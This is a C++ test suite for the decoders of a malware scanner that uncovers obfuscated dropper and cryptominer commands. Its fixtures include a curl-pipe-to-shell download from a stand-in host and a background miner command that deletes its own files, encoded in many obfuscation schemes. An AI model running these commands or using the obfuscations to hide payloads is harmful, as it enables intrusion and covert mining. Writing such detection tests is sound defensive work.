#include "inspect/decoders.h"

#include <doctest/doctest.h>

#include <algorithm>

#include "inspect/decoders/worth.h"
#include "inspect/decoders/xor.h"
#include "support/encodings.h"
#include "support/wrapped.h"

using namespace minescan;
using namespace minescan::inspect;

namespace {

const std::string kHidden = "curl http://drop.example/x.sh | sh # stratum+tcp://pool.example:3333";

std::vector<Decoded> decoded(std::string_view text, ViewKind kind = ViewKind::script) {
  Decoders decoders(kind);
  std::vector<Decoded> found;
  decoders.window({.bytes = as_bytes(text), .from = 0, .to = text.size()}, true, found);
  return found;
}

// As a leaf shows it: windows of `size` new bytes with what lies before and after.
std::vector<Decoded> in_windows(std::string_view text, ViewKind kind, std::size_t size) {
  Decoders decoders(kind);
  std::vector<Decoded> found;
  for (std::size_t at = 0; at < text.size(); at += size) {
    const std::size_t begin = at > 2048 ? at - 2048 : 0;
    const std::size_t to = std::min(text.size(), at + size);
    const std::size_t end = std::min(text.size(), to + 4096);
    decoders.window(
        {.bytes = as_bytes(text.substr(begin, end - begin)), .from = at - begin, .to = to - begin},
        to == text.size(), found);
  }
  return found;
}

bool finds(std::string_view text, std::string_view name, std::string_view bytes) {
  for (const Decoded& part : decoded(text)) {
    if (part.name == name && part.bytes == bytes) return true;
  }
  return false;
}

std::string reversed(std::string text) { return {text.rbegin(), text.rend()}; }

}  // namespace

TEST_CASE("decoders: base64, plain, URL-safe, wrapped, and behind a spelled line end") {
  CHECK(finds("echo " + test::base64_of(kHidden) + " | base64 -d", "base64", kHidden));
  const std::string odd = "~~~?>?>>>>~~ " + kHidden + " ~~~>>>?>?";
  std::string safe = test::base64_of(odd);
  for (char& c : safe) c = c == '+' ? '-' : c == '/' ? '_' : c;
  REQUIRE(safe != test::base64_of(odd));
  CHECK(finds("x='" + safe + "'", "base64", odd));
  const std::string lines = kHidden + "\n" + kHidden + "\n" + kHidden;
  CHECK(finds("cat <<X\n" + test::base64_of(lines, 76) + "\nX\n", "base64", lines));
  const std::string in_json = test::cut_up(test::base64_of(lines), 64, "\\n");
  CHECK(finds("{\"a\": \"x\\n" + in_json + "\\n\"}", "base64", lines));
  CHECK(finds("a = (\"" + test::cut_up(test::base64_of(lines), 60, "\"\n     \"") + "\")", "base64",
              lines));
}

TEST_CASE("decoders: where a part lies is told by line and column") {
  const auto found = decoded("one\ntwo\n x = '" + test::base64_of(kHidden) + "'\n");
  REQUIRE(found.size() == 1);
  CHECK(found[0].line == 3);
  CHECK(found[0].column == 7);
  CHECK(found[0].begin == 14);
  CHECK(found[0].end == 14 + test::base64_of(kHidden).size());
}

TEST_CASE("decoders: base64 turned by ROT13, reversed, or split in four variables") {
  const std::string plain = test::base64_of(kHidden);
  CHECK(finds("x='" + test::rot13_of(plain) + "'", "rot13, base64", kHidden));
  CHECK(finds("x='" + reversed(plain) + "'", "reversed, base64", kHidden));
  const std::string twice = test::base64_of(kHidden + kHidden);
  const std::size_t n = twice.size() / 4;
  CHECK(finds("magic = '" + twice.substr(0, n) + "'\nlove = '" +
                  test::rot13_of(twice.substr(n, n)) + "'\ngod = '" + twice.substr(2 * n, n) +
                  "'\ndestiny = '" + test::rot13_of(twice.substr(3 * n)) + "'\n",
              "base64 split in four", kHidden + kHidden));
}

TEST_CASE("decoders: reversed base64 of a compressed stream, with padding and without") {
  for (std::size_t more = 0; more < 6; ++more) {
    const std::string packed = test::zlib_of(kHidden + std::string(more, '!'));
    CAPTURE(packed.size());
    CHECK(finds("x='" + reversed(test::base64_of(packed)) + "'", "reversed, base64", packed));
  }
}

TEST_CASE("decoders: hex and base32") {
  CHECK(finds("x=" + test::each_byte(kHidden, "%02x"), "hex", kHidden));
  CHECK(finds("x=0x" + test::each_byte(kHidden, "%02X") + ";", "hex", kHidden));
  CHECK(finds("x='" + test::base32_of(kHidden) + "'", "base32", kHidden));
}

TEST_CASE("decoders: escapes and percent-encoding") {
  CHECK(finds("x=\"" + test::each_byte(kHidden, "\\x%02x") + "\"", "escapes", kHidden));
  CHECK(finds("x=\"" + test::each_byte(kHidden, "\\u%04x") + "\"", "escapes", kHidden));
  CHECK(finds("x=\"" + test::each_byte(kHidden, "\\u{%x}") + "\"", "escapes", kHidden));
  CHECK(finds("printf '" + test::each_byte(kHidden, "\\%03o") + "'", "escapes", kHidden));
  CHECK(finds(R"(x="\x73tr\x61t\x75m")", "escapes", "stratum") == false);  // too few
  CHECK(finds(R"(x="\x73\x74r\x61t\x75m")", "escapes", "stratum"));
  CHECK(finds("x='" + test::each_byte(kHidden, "%%%02x") + "'", "percent", kHidden));
  CHECK(finds("u=stratum%2Btcp%3A%2F%2Fpool.example%3A3333", "percent",
              "u=stratum+tcp://pool.example:3333"));
}

TEST_CASE("decoders: octal escapes of any length that a shell knows") {
  CHECK(finds("printf '" + test::each_byte(kHidden, "\\%o") + "'", "escapes", kHidden));
  CHECK(finds("echo -e '" + test::each_byte(kHidden, "\\0%o") + "'", "escapes", kHidden));
  // What a pattern captured is no character, nor is a zero that ends a text.
  CHECK(decoded(R"(s = re.sub('a', '\1\2\11\12\7\8'))").empty());
  CHECK(decoded(R"(x = "abc\0"; y = "\0\0\0\0")").empty());
}

TEST_CASE("decoders: texts as one large number, in decimal and base58") {
  const std::string hidden = "curl http://drop.example/x.sh | sh";
  const std::string decimal =
      "2948234138779201121789812715775377731657504946270812632385595259645744342175347560";
  const std::string base58 = "3FQdX3duHdgZPoTYXRWzcVzXLwegSPYM41uL9o7S6AByJUf";
  CHECK(finds("os.system((" + decimal + ").to_bytes(34, 'big'))", "decimal", hidden));
  CHECK(finds("os.system(base58.b58decode('" + base58 + "'))", "base58", hidden));
  // Nothing says that it is base58.
  CHECK_FALSE(finds("os.system('" + base58 + "')", "base58", hidden));
  // A key is no text.
  CHECK(decoded("N = " + std::string(617, '7') + "\n").empty());
}

TEST_CASE("decoders: a text cut into UUIDs, or into GUIDs") {
  const std::string hidden = "curl http://a.example/x.sh | sh\n";
  CHECK(
      finds("x = ['6375726c-2068-7474-703a-2f2f612e6578',\n"
            "     '616d706c-652f-782e-7368-207c2073680a']",
            "uuids", hidden));
  CHECK(
      finds("x = {\"6c727563-6820-7474-703a-2f2f612e6578\", "
            "UUID(\"6c706d61-2f65-2e78-7368-207c2073680a\")}",
            "guids", hidden));
  CHECK(decoded("'6375726c-2068-7474-703a-2f2f612e6578', 1, 2").empty());  // one says little
  CHECK(decoded("'1b4e28ba-2fa1-11d2-883f-0016d3cca427', '1b4e28ba-2fa1-11d2-883f-0016d3cca428'")
            .empty());
}

TEST_CASE("decoders: carets of a batch file") {
  CHECK(finds("@echo off\r\n^c^u^r^l ^h^t^t^p://d^r^o^p^.^e^x^a^m^p^l^e/^x\nb", "carets",
              "curl http://drop.example/x"));
  CHECK(decoded("a^2 + b^2 = c^2, e^x, x^n + y^n = z^n").empty());
  CHECK(decoded("if (a ^ b) c ^= d; // " + std::string(80, '^')).empty());
}

TEST_CASE("decoders: JavaScript whose words are numbers of a list") {
  const std::string head =
      "eval(function(p,a,c,k,e,r){e=function(c){return c.toString(36)};while(c--)if(k[c])"
      "p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}(";
  CHECK(finds(
      head +
          R"('2 3=0("4\\\\A");3.B(\'5://6.1/7 z\')',36,8,'require|example|var|cp|child|http|drop|x'.split('|'),0,{})))",
      "packed words", R"(var cp=require("child\\A");cp.B('http://drop.example/x z'))"));
  CHECK(finds(head + "\"Z 10 3\",62,63,\"|||$" + std::string(57, '|') + "|curl|http\".split('|')))",
              "packed words", "curl http $"));
  // What is not whole stays as it is.
  CHECK(decoded(head + "'0 1',36").empty());
  CHECK(decoded("function f(p,a,c,k,e,d) { return p; }").empty());
}

TEST_CASE("decoders: literals that are put in by their numbers") {
  CHECK(finds(R"(iex ("{2}{0}{1}" -f 'tp://drop.', 'example/x', 'curl ht'))", "format",
              "curl http://drop.example/x"));
  CHECK(finds("$a = 'curl ht'\n&(\"{0}{1}\"-f $a,'tp://drop.example')", "format",
              "curl http://drop.example"));
  CHECK(finds(R"(x = "{0}.{1}:443".format("pool", 'example'))", "format", "pool.example:443"));
  CHECK(decoded(R"(log("{0} of {1}", a, b); s = "{0}{1}".format(a, b))").empty());
}

TEST_CASE("decoders: letters that a shell turns by thirteen") {
  const std::string line = "echo 'phey uggc://qebc.rknzcyr' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh";
  const auto found = decoded(line);
  CHECK(std::any_of(found.begin(), found.end(), [](const Decoded& part) {
    return part.name == "rot13" && part.bytes.find("curl http://drop.example") != std::string::npos;
  }));
  CHECK(decoded("tr 'a-z' 'A-Z' < a").empty());
}

TEST_CASE("decoders: joined literals") {
  CHECK(finds("x = \"" + test::cut_up(kHidden, 5, "\" + \"") + "\";", "joined strings", kHidden));
  CHECK(finds("x = '" + test::cut_up(kHidden, 5, "'+'") + "';", "joined strings", kHidden));
  CHECK(finds("$x = '" + test::cut_up(kHidden, 5, "'.'") + "';", "joined strings", kHidden));
  CHECK(finds("x = (\"" + test::cut_up(kHidden, 9, "\"\n     \"") + "\")", "joined strings",
              kHidden));
  CHECK(finds("eval 'xm''rig''-6.21'", "joined strings", "xmrig-6.21"));
  CHECK(finds("x = ['" + test::cut_up(kHidden, 5, "', '") + "'].join('')", "joined strings",
              kHidden));
  CHECK(finds("x = ''.join([\"" + test::cut_up(kHidden, 5, "\",\"") + "\"])", "joined strings",
              kHidden));
  // What is no literal ends it; an empty literal between two others is not two of them.
  CHECK(finds("x = 'stratum+' + 'tcp://' + host", "joined strings", "stratum+tcp://"));
  CHECK(decoded("f('', 'b', \"\", a + b, 'c' + d)").empty());
}

TEST_CASE("decoders: lists that are joined by their name") {
  const std::string items = "'" + test::cut_up(kHidden, 7, "', '") + "'";
  CHECK(finds("q = [" + items + "]\nrun(''.join(q))", "joined strings", kHidden));
  CHECK(finds("const q=[" + items + "];\nrun(q.join(''))", "joined strings", kHidden));
  CHECK(finds("$q = array(" + items + ");\nrun(implode('', $q));", "joined strings", kHidden));
  CHECK(finds("@q = (" + items + ");\nrun(join('', @q));", "joined strings", kHidden));
  CHECK(finds("a = 'stratum+'\nb = 'tcp://p.example'\nrun(''.join([a, b, ':1']))", "joined strings",
              "stratum+tcp://p.example:1"));
  CHECK(finds("let a='stratum+',b='tcp://p.example';run([a,b].join(''))", "joined strings",
              "stratum+tcp://p.example"));
  CHECK(finds("q = ['a b', 'c d']\nrun('-'.join(q))", "joined strings", "a b-c d") ==
        false);  // short
  // Of other kinds, unknown, or of one.
  for (const std::string_view text :
       {"run(''.join(q))", "q = [1, 2, 3]\nrun(''.join(q))", "q = ['stratum+tcp', x]\n''.join(q)",
        "q = ['stratum+tcp']\n''.join(q)", "os.path.join(a, b)", "q=['stratum', 'tcp']\n''.join(r)",
        "''.join(x for x in q)"}) {
    CAPTURE(text);
    CHECK(decoded(text).empty());
  }
}

TEST_CASE("decoders: sums of names") {
  const std::string a = kHidden.substr(0, 20), b = kHidden.substr(20, 20), c = kHidden.substr(40);
  CHECK(finds("a1='" + a + "';b2='" + b + "';c3='" + c + "';run(a1+b2+c3)", "joined strings",
              kHidden));
  CHECK(
      finds("$a='" + a + "';$b='" + b + c + "';$d='';eval($a.$b.$d);", "joined strings", kHidden));
  CHECK(finds("a = '" + a + "'\nb = '" + b + c + "'\nb64decode(a + b)", "joined strings", kHidden));
  CHECK(finds("a = 'stratum'\nb = 'tcp'\nx = a + '+' + b + '://'", "joined strings",
              "stratum+tcp://"));
  for (const std::string_view text :
       {"x = a + b + c", "a = 'stratum'\nx = a + b + c", "a='abcdefgh'\nb='ijklmnop'\nx = a + b",
        "i = i + 1 + j", "One. two. $three"}) {
    CAPTURE(text);
    CHECK(decoded(text).empty());
  }
}

TEST_CASE("decoders: words that are encoded one by one") {
  const auto call = [](std::string_view name, std::string_view word, std::string_view behind) {
    return std::string(name) + "'" + test::base64_of(word) + "'" + std::string(behind);
  };
  CHECK(finds("b64(1);run([" + call("d(", "-o", "), ") + call("d(", "p.example:1", "), ") +
                  call("d(", "-u", ").decode()") + "])",
              "base64 words", "b64(1);run(['-o', 'p.example:1', '-u'])"));
  CHECK(finds("x([" + call("", "-o", ",") + call("", "p.example:1", ",") + call("", "-u", "") +
                  "].map(atob))",
              "base64 words", "x(['-o','p.example:1','-u'].map(atob))"));
  CHECK(finds("$(echo " + test::base64_of("./a") + "|base64 -d) $(echo '" + test::base64_of("-o") +
                  "' | base64 --decode) `echo " + test::base64_of("p.example:3333") +
                  " | base64 -D`\n",
              "base64 words", "./a -o p.example:3333"));
  CHECK(finds("run(" + call("Buffer.from(", "-o", ", 'base64').toString(), ") +
                  call("Buffer.from(", "p.example:1", ", 'base64').toString(), ") +
                  call("Buffer.from(", "-u", ", 'base64').toString())"),
              "base64 words", "run('-o', 'p.example:1', '-u')"));
  for (const std::string_view text :
       {"base64: 'test', 'data', 'name', 'user', 'load', 'file'", "atob('LW8=')",
        "x = ['LW8=', 'cC5leGFtcGxlOjE=', 'LXU=']", "base64 -d base64 -d | base64 -d)",
        "$(cat x | base64 -d) $(cat y | base64 -d) $(cat z | base64 -d)"}) {
    CAPTURE(text);
    CHECK(decoded(text).empty());
  }
}

TEST_CASE("decoders: functions called after what they decode") {
  CHECK(finds("eval(str_rot13('" + test::rot13_of(kHidden) + "'));", "rot13", kHidden));
  CHECK(finds("x = codecs.decode('" + test::rot13_of(kHidden) + "', 'rot13')", "rot13", kHidden));
  CHECK(finds("x = '" + test::rot13_of("girl and boy") + "'\ncodecs.decode(x, 'rot_13')", "rot13",
              "girl and boy"));
  CHECK(finds("eval(strrev(str_rot13('" + reversed(test::rot13_of("run /bin/xmrig")) + "')));",
              "rot13, reversed", "run /bin/xmrig"));
  CHECK(finds("eval(base64_decode(str_rot13('" + test::rot13_of(test::base64_of("run it")) + "')))",
              "rot13, base64", "run it") == false);  // short
  CHECK(
      finds("eval(base64_decode(str_rot13('" + test::rot13_of(test::base64_of("run /a/b")) + "')))",
            "rot13, base64", "run /a/b"));
  // Encoded by Python and by hand: "curl p.example".
  CHECK(finds("b85decode('V{&P9X=WfsZewLHb8~5LZUA')", "base85", "x") == false);
  CHECK(finds("x = b'Xk~0{ba`-PAZ2)PWB'\nb85decode(x)", "base85", "nothing") == false);
  for (const std::string_view text :
       {"x = str_rot13($y);", "rot13", "def rot13(text): return text", "b85decode(",
        "codecs.decode(x, 'rot13')", "z85.decode('a')", "0x85d", "rot13('abc')"}) {
    CAPTURE(text);
    CHECK(decoded(text).empty());
  }
}

TEST_CASE("decoders: uuencode, quoted-printable, and hex with separators") {
  const std::string long_text = kHidden + "\n" + kHidden;
  CHECK(finds("uudecode <<E\nbegin 644 x\n" + test::uuencoded(long_text) + "`\nend\nE\n",
              "uuencode", long_text));
  CHECK(finds("unpack('u', <<E)\n" + test::uuencoded(long_text) + "E\n", "uuencode", long_text));
  CHECK(decoded("begin 644 x\nend\nMAKE A LINE\nMIT\n").empty());
  CHECK(finds("x = '" + test::each_byte(kHidden, "=%02X") + "'", "quoted-printable", kHidden));
  CHECK(finds("x =\n" + test::cut_up(test::each_byte(kHidden, "=%02X"), 30, "=\n") + "\n",
              "quoted-printable", kHidden));
  CHECK(decoded("http://a.example/?a=12&b=34&c=56&d=78&e=45&f=32").empty());
  for (const char* format :
       {"%02x ", "%02x:", "0x%02x, ", "0x%02x ", "\\x%02x ", "%02x\n", "%02X-"}) {
    CAPTURE(format);
    std::string digits = test::each_byte(kHidden, format);
    digits.resize(digits.find_last_of("0123456789abcdefABCDEF") + 1);
    CHECK(finds("x='" + digits + "'", "hex", kHidden));
  }
  CHECK(decoded("23 45 67 34 56 78 43 54 65 76 45 56 67 78 34 45 56 67 78 43 54 65 23 45 67")
            .empty());
  CHECK(decoded("f0:9a:11:02:f0:9a:11:02:f0:9a:11:02:f0:9a:11:02:f0:9a:11:02:f0:9a:11:02").empty());
}

TEST_CASE("decoders: one escape shows the text around it without") {
  CHECK(finds(R"({"p\u006fols": [{"u\x72l": "p.ex\141mple", "n": "\u00e4\u0022"}]})", "unescaped",
              R"({"pools": [{"url": "p.example", "n": "\u00e4\u0022"}]})"));
  CHECK(finds("a\nb = 'xmr\\x69g'\nc", "unescaped", "a\nb = 'xmrig'\nc"));
  for (const std::string_view text :
       {R"(x = /[\x30-\x39\u0041-\u005a]/)", R"("\u003cb\u003e \u0026 \u0027")",
        R"(x = "\n\t\x00\u00e9")", R"("\u00")"}) {
    CAPTURE(text);
    for (const Decoded& part : decoded(text)) CHECK(part.name != "unescaped");
  }
}

TEST_CASE("decoders: character codes") {
  const std::string list = test::cut_up(test::each_byte(kHidden, "%3u"), 3, ",");
  CHECK(finds("x=String.fromCharCode(" + list + ")", "character codes", kHidden));
  CHECK(finds("x=[" + test::cut_up(test::each_byte(kHidden, "0x%02x"), 4, ", ") + "]",
              "character codes", kHidden));
  CHECK(finds("x=[\n  " + test::cut_up(test::each_byte(kHidden, "%3u"), 3, ",\n  ") + "\n]",
              "character codes", kHidden));
  const std::string calls = test::each_byte(kHidden, "chr(%u)+") + "chr(10)";
  CHECK(finds("x=" + calls, "character codes", kHidden + "\n"));
  CHECK(decoded("x=[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16]").empty());
}

TEST_CASE("decoders: reversed and turned addresses and literals") {
  CHECK(finds("x = '" + reversed(kHidden) + "'", "reversed", kHidden));
  CHECK(finds("rev <<< 3333:elpmaxe.loop//:pct+mutarts", "reversed",
              "stratum+tcp://pool.example:3333"));
  CHECK(finds("x = 'girmx/nib/'[::-1]", "reversed", "/bin/xmrig"));
  CHECK(finds("x = \"girmx/nib/\".split(\"\").reverse().join(\"\")", "reversed", "/bin/xmrig"));
  CHECK(finds("s = 'girmx/nib/'\nrun(s[::-1])", "reversed", "/bin/xmrig"));
  CHECK(finds("const s = \"girmx/nib/\"; run(s.split('').reverse().join(''))", "reversed",
              "/bin/xmrig"));
  CHECK(decoded("run(s[::-1]); t.split('').reverse()").empty());
  CHECK(finds("echo girmx/nib/ | rev | sh", "reversed", "/bin/xmrig"));
  CHECK(finds("$x = strrev('girmx/nib/');", "reversed", "/bin/xmrig"));
  CHECK(finds("x = '" + test::rot13_of(kHidden) + "'", "rot13", kHidden));
}

TEST_CASE("decoders: short texts that lie near one another come as one") {
  const std::string text = "a: " + test::base64_of("pool.example.org:3333") +
                           "\nb: " + test::base64_of("a-made-up-address-of-nobody") + "\n";
  const auto found = decoded(text, ViewKind::config);
  REQUIRE(found.size() == 1);
  CHECK(found[0].bytes == "pool.example.org:3333\na-made-up-address-of-nobody");
  const std::string apart = "a: " + test::base64_of("pool.example.org:3333") +
                            std::string(5000, '\n') +
                            "b: " + test::base64_of("a-made-up-address-of-nobody");
  CHECK(decoded(apart, ViewKind::config).size() == 2);
}

TEST_CASE("decoders: what only looks encoded is nothing") {
  for (const std::string& text :
       {std::string("ThisIsALongCamelCaseNameThatGoesOnForEver and_one_in_snake_case_that_is_long"),
        std::string("/usr/share/doc/some-package/examples/and/more/README"),
        std::string(80, '-') + "\n" + std::string(80, '/'),
        std::string("sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
        std::string("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b"),
        "data:image/png;base64," + test::base64_of("\x89PNG\r\n\x1a\n" + test::noise(3000, 1)),
        "d09GMgABAAAAA" + test::base64_of(test::noise(3000, 2)),
        "-----BEGIN CERTIFICATE-----\n" +
            test::base64_of("\x30\x82\x03\x55" + test::noise(900, 3), 64) + "\n-----END",
        std::string("{\"a\": \"b\", \"c\": [1, 2, 3], \"d\": \"e\"}\n"),
        std::string("x = a + b; y = \"a\" + b; z = 'it''s'")}) {
    CAPTURE(text.substr(0, 100));
    CHECK(decoded(text).empty());
  }
}

TEST_CASE("decoders: bytes of no known kind are told as such, and only when surely encoded") {
  const std::string secret = "\x01\x02" + test::noise(200, 4);
  const auto found = decoded("x='" + test::base64_of(secret) + "'");
  REQUIRE(found.size() == 1);
  CHECK(found[0].unknown);
  CHECK(found[0].bytes == secret);
  CHECK(decoded(test::base64_of(secret), ViewKind::binary).empty());
}

TEST_CASE("decoders: a megabyte of nothing, or of triggers, yields nothing and ends") {
  for (const std::string_view unit : {" ",
                                      "a",
                                      "A",
                                      "=",
                                      "\\",
                                      "\\x",
                                      "%",
                                      "%4",
                                      "\"",
                                      "\"+",
                                      "\"+\"",
                                      "'' ",
                                      "[",
                                      "[1,",
                                      "[[1",
                                      "(1",
                                      "//:",
                                      "c://",
                                      "[::-1]",
                                      ".join('",
                                      "].join('')",
                                      "chr(",
                                      "chr(1)+",
                                      "\n",
                                      "0x",
                                      "| rev",
                                      "magic = 'aB",
                                      "QUJD\n",
                                      "\\u00",
                                      "aB1",
                                      "a.join('')",
                                      "''.join(a)",
                                      "a=['b','c'];",
                                      "a+b+c",
                                      "$a.$b.",
                                      "a='b'+",
                                      "base64 -d",
                                      "b64('LW8=')",
                                      "$(echo LW8=|base64 -d)",
                                      "rot13('a",
                                      "'rot13'",
                                      "b85decode('",
                                      "\nM8W5R;",
                                      "begin 644 a\n",
                                      "=41",
                                      "=\n",
                                      "41 ",
                                      "97 ",
                                      "\\0163",
                                      "\\40",
                                      "^a",
                                      "^",
                                      "{0}",
                                      "\"{0}",
                                      "\"{0}{1}\" -f 'a','b',",
                                      "7",
                                      "base58",
                                      "6375726c-2068-7474-703a-2f2f64726f70,",
                                      "(p,a,c,k,e,",
                                      "(p,a,c,k,e,r){return p}('0 1',62,2,'a|b",
                                      "tr ' 'N-ZA-M",
                                      "0x",
                                      "\\x61",
                                      "\\x61\""}) {
    std::string text;
    while (text.size() < 1'000'000) text += unit;
    CAPTURE(unit);
    for (const Decoded& part : decoded(text)) CHECK(part.bytes.size() <= 2 * text.size());
    static_cast<void>(decoded(text, ViewKind::binary));
  }
  CHECK(decoded(test::noise(1'000'000, 5)).size() < 20);
  CHECK(decoded("").empty());
}

TEST_CASE("decoders: XORed addresses in programs, under every key") {
  for (unsigned key = 1; key < 256; ++key) {
    const std::string bytes =
        test::noise(3000, key) +
        test::xored("\x01" + kHidden + "\x01", static_cast<unsigned char>(key)) +
        test::noise(3000, key + 1);
    bool found = false;
    for (const Decoded& part : decoded(bytes, ViewKind::executable)) {
      found = found || (part.bytes.find(kHidden) != std::string::npos &&
                        part.name == test::format_text("xor 0x%02x", key));
    }
    CAPTURE(key);
    CHECK(found == (key != 0x20));
  }
  // Strings that stand together are a text, a line each: what is text is judged as what may run.
  const auto strings = decoded(
      test::xored(std::string("\x01") + kHidden + '\0' + "second\x01", 0x6b), ViewKind::executable);
  REQUIRE(strings.size() == 1);
  CHECK(strings[0].bytes == kHidden + "\nsecond");
  CHECK(decoded(std::string(3000, '\0') + kHidden, ViewKind::executable).empty());
  CHECK(decoded(test::xored(kHidden, 0x5a), ViewKind::script).empty());
}

TEST_CASE("decoders: it does not matter how windows are cut") {
  std::string text;
  for (std::uint32_t i = 0; i < 40; ++i) {
    text += "x = \"" + test::base64_of(kHidden + std::to_string(i)) + "\"\n" +
            std::string(1500 + i * 37, ' ') + "y = \"" + test::cut_up(kHidden, 5, "\" + \"") +
            "\"\n" + std::string(1500 + i * 11, ' ');
  }
  const auto whole = decoded(text);
  CHECK(whole.size() == 80);
  std::string program;
  for (std::uint32_t i = 0; i < 40; ++i) {
    program += test::noise(1000 + i * 37, i) + std::string(1, '\0') +
               test::base64_of(kHidden + std::to_string(i)) + std::string(3000, '\0') +
               test::xored(kHidden, 0x33);
  }
  const auto all = decoded(program, ViewKind::executable);
  CHECK(all.size() == 80);
  for (const std::size_t size : {7u, 64u, 100u, 1000u, 4096u, 50'000u}) {
    CAPTURE(size);
    for (const bool script : {true, false}) {
      auto cut = in_windows(script ? text : program,
                            script ? ViewKind::script : ViewKind::executable, size);
      const auto by_place = [](const Decoded& a, const Decoded& b) { return a.begin < b.begin; };
      std::sort(cut.begin(), cut.end(), by_place);
      auto expected = script ? whole : all;
      std::sort(expected.begin(), expected.end(), by_place);
      REQUIRE(cut.size() == expected.size());
      for (std::size_t i = 0; i < cut.size(); ++i) {
        CHECK(cut[i].begin == expected[i].begin);
        CHECK(cut[i].line == expected[i].line);
        CHECK(cut[i].bytes == expected[i].bytes);
      }
    }
  }
}

TEST_CASE("decoders: a key is a guess, and bytes of no known kind are still there without it") {
  std::string bytes;
  while (bytes.size() < 3000) bytes += "xmrig -o stratum+tcp://pool.example:3333 --algo rx/0 -k\n";
  const std::string key = "\x91\x17\xc3\xe5";
  for (std::size_t i = 0; i < bytes.size(); ++i) {
    bytes[i] = static_cast<char>(bytes[i] ^ key[i % key.size()]);
  }
  const auto found = decoded("payload = \"" + test::base64_of(bytes) + "\"\n");
  REQUIRE(found.size() == 2);
  const std::size_t raw = found[0].unknown ? 0 : 1;
  CHECK(found[raw].unknown);
  CHECK(found[raw].bytes == bytes);
  CHECK(found[1 - raw].bytes.starts_with("xmrig -o stratum"));
}

TEST_CASE("decoders: what follows a run in a program is no part of it, wherever windows are cut") {
  const std::string program = "\x01\x02" + std::string(80, '4') + "\xff\xff\x01";
  const auto whole = decoded(program, ViewKind::executable);
  REQUIRE(whole.size() == 1);
  CHECK(whole.front().bytes == std::string(40, 'D'));
  for (const std::size_t size : {1U, 17U, 40U, 83U}) {
    const auto cut = in_windows(program, ViewKind::executable, size);
    REQUIRE(cut.size() == 1);
    CHECK(cut.front().bytes == whole.front().bytes);
  }
}

TEST_CASE("decoders: padding does not make a run long enough, wherever windows are cut") {
  // 63 characters and one of padding.
  const std::string run = test::base64_of("echo one two three four five six seven eight ni");
  REQUIRE(run.find('=') == 63);
  const std::string program = std::string(100, '\0') + run + std::string(100, '\0');
  CHECK(decoded(program, ViewKind::executable).empty());
  CHECK(in_windows(program, ViewKind::executable, 17).empty());
}

TEST_CASE("decoders: texts longer than a block lose nothing and tell nothing twice") {
  // A part lies across the end of the first block of 8 MiB, one goes over several blocks.
  const std::size_t block = std::size_t{8} << 20;
  const std::string part = "\"" + test::base64_of(kHidden) + "\"";
  std::string text((block)-30, '\n');
  text += part;
  text += std::string(1000, ' ');
  const std::string program =
      "\x7f"
      "ELF" +
      test::noise(15'000'000, 6);
  text += "'" + test::base64_of(program) + "'";
  text += std::string(block, '\n') + part;
  const auto found = in_windows(text, ViewKind::script, 1'000'000);
  REQUIRE(found.size() == 3);
  CHECK(found[0].bytes == kHidden);
  CHECK(found[0].line == block - 30 + 1);
  CHECK(found[1].bytes == program);
  CHECK(!found[1].cut);
  CHECK(found[2].bytes == kHidden);
  CHECK(found[2].line == 2 * block - 30 + 1);
}

TEST_CASE("decoders: a part that is too long is cut, and says so") {
  const std::string text = "'" +
                           test::base64_of(
                               "\x7f"
                               "ELF" +
                               test::noise(60'000'000, 7)) +
                           "'";
  const auto found = in_windows(text, ViewKind::script, 1'000'000);
  REQUIRE(!found.empty());
  CHECK(found[0].cut);
  CHECK(found[0].bytes.size() > 20'000'000);
}

namespace {

std::string keyed(std::string text, std::string_view key) {
  for (std::size_t i = 0; i < text.size(); ++i) {
    text[i] = static_cast<char>(static_cast<unsigned char>(text[i]) ^
                                static_cast<unsigned char>(key[i % key.size()]));
  }
  return text;
}

std::string listed(std::string_view bytes) {
  std::string text = "d = [";
  for (const char c : bytes) text += std::to_string(static_cast<unsigned char>(c)) + ", ";
  text.replace(text.size() - 2, 2, "]\n");
  return text;
}

bool shows(const std::vector<Decoded>& found, std::string_view text) {
  return std::any_of(found.begin(), found.end(), [&](const Decoded& part) {
    return part.bytes.find(text) != std::string::npos;
  });
}

const std::string kCommand =
    "/opt/a/worker --url=stratum+tcp://pool.example:3333 -u somebody.rig7 -p x --background "
    "--print-time=60 >/dev/null 2>&1 & sleep 5; rm -f /opt/a/worker /opt/a/settings.json; exit 0\n"
    "# and some more of what such scripts say when they are as long as scripts are\n";

}  // namespace

TEST_CASE("decoders: a list, base64 or hex of bytes under a key of several") {
  for (const std::string_view key : {"k", "k3", "\x9a\x41\xe0", "lodash", "0123456789abcdef"}) {
    CAPTURE(key);
    const std::string bytes = keyed(kCommand, key);
    CHECK(shows(decoded(listed(bytes)), kCommand));
    CHECK(shows(decoded("x = \"" + test::base64_of(bytes) + "\"\n"), kCommand));
  }
  std::string more = kCommand;
  for (char& c : more) c = static_cast<char>(c + 7);
  CHECK(shows(decoded(listed(more)), kCommand));
  CHECK(decoded(listed(test::noise(200, 3))).size() == 1);
}

TEST_CASE("decoders: addresses whose letters were moved on") {
  CHECK(shows(decoded("x = '-v zayhabt+ajw://wvvs.lehtwsl:3333 -b dvyrly'\n"),
              "-o stratum+tcp://pool.example:3333 -u worker"));
  CHECK(
      shows(decoded("x = 'fgenghz+gpc://cbby.rknzcyr:3333'\n"), "stratum+tcp://pool.example:3333"));
  CHECK(shows(decoded("x = 'kwws://gurs.hadpsoh/a.vk'\n"), "http://drop.example/x.sh"));
  CHECK(decoded("https://a.example/ ftp://b.example/ udp://c.example git://d.example\n").empty());
}
